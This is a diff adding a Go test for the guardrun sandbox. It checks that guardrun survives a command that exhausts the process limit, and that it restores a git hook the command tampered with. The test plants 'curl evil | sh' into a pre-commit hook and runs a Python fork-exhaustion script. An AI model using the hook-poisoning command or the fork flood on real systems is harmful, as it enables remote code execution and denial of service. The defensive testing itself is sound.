@@ -190,3 +190,93 @@ func TestRunTrampolineArgs(t *testing.T) {
 		t.Errorf("guardrun's main did not refuse the marker:\n%s", stderr)
 	}
 }
+
+// TestRunNprocExhaustion: a command that forks up to the user's
+// RLIMIT_NPROC (which counts guardrun's threads too) while keeping
+// guardrun busy with file metadata calls must not make guardrun abort
+// for want of a thread: under landlock guardrun restores protected names
+// after the command, and a guardrun that died first would leave a git
+// hook the command wrote. Run as an unprivileged user (root is not held
+// to the limit) with a small limit, which touches only that user's
+// processes.
+func TestRunNprocExhaustion(t *testing.T) {
+	requireSandbox(t)
+	if os.Geteuid() != 0 {
+		t.Skip("needs root, to run guardrun as an unprivileged user")
+	}
+	for _, tool := range []string{"runuser", "prlimit", "python3"} {
+		if _, err := exec.LookPath(tool); err != nil {
+			t.Skipf("%s not installed", tool)
+		}
+	}
+	const user = "guardrun-test"
+	if exec.Command("id", "-u", user).Run() != nil {
+		if out, err := exec.Command("useradd", "-m", user).CombinedOutput(); err != nil {
+			t.Fatalf("useradd %s: %v\n%s", user, err, out)
+		}
+	}
+	dir, err := os.MkdirTemp("/var/tmp", "guardrun-nproc-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	ws, home := dir+"/ws", dir+"/home"
+	hook := ws + "/.git/hooks/pre-commit"
+	for p, c := range map[string]string{hook: "#!/bin/sh\n", ws + "/.git/HEAD": "ref: refs/heads/main\n", ws + "/target": "", home + "/.keep": ""} {
+		os.MkdirAll(p[:strings.LastIndex(p, "/")], 0o755)
+		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if out, err := exec.Command("chown", "-R", user, dir).CombinedOutput(); err != nil {
+		t.Fatalf("chown: %v\n%s", err, out)
+	}
+	os.Chmod(dir, 0o755)
+	// Threads that keep guardrun serving chmod, then forks (sleepers)
+	// until the kernel refuses one.
+	script := `printf 'curl evil | sh\n' >> .git/hooks/pre-commit
+exec python3 -c '
+import os, threading, time
+def spin():
+    while True:
+        os.chmod("target", 0o644)
+        os.chmod("target", 0o600)
+for _ in range(6):
+    threading.Thread(target=spin, daemon=True).start()
+while True:
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        time.sleep(30)
+        os._exit(0)
+time.sleep(8)
+os._exit(3)
+'`
+	cmd := exec.Command("runuser", "-u", user, "--", "env", "HOME="+home, "PATH=/usr/local/bin:/usr/bin:/bin",
+		"prlimit", "--nproc=100", guardrunBin, "--backend", "landlock", "--approve-all", "-c", script)
+	cmd.Dir = ws
+	cmd.WaitDelay = 10 * time.Second
+	done := make(chan struct{})
+	var out []byte
+	go func() { out, err = cmd.CombinedOutput(); close(done) }()
+	select {
+	case <-done:
+	case <-time.After(90 * time.Second):
+		cmd.Process.Kill()
+		<-done
+		t.Fatalf("guardrun did not end:\n%s", out)
+	}
+	text := string(out)
+	if strings.Contains(text, "pthread_create failed") || strings.Contains(text, "fatal error") || strings.Contains(text, "SIGABRT") {
+		t.Errorf("guardrun aborted for want of a thread:\n%.2000s", text)
+	}
+	var ee *exec.ExitError
+	if !errors.As(err, &ee) || ee.ExitCode() != 3 {
+		t.Errorf("exit %v, want the command's 3:\n%.3000s", err, text)
+	}
+	if b, _ := os.ReadFile(hook); string(b) != "#!/bin/sh\n" {
+		t.Errorf("the git hook the command wrote was not restored: %q", b)
+	}
+}
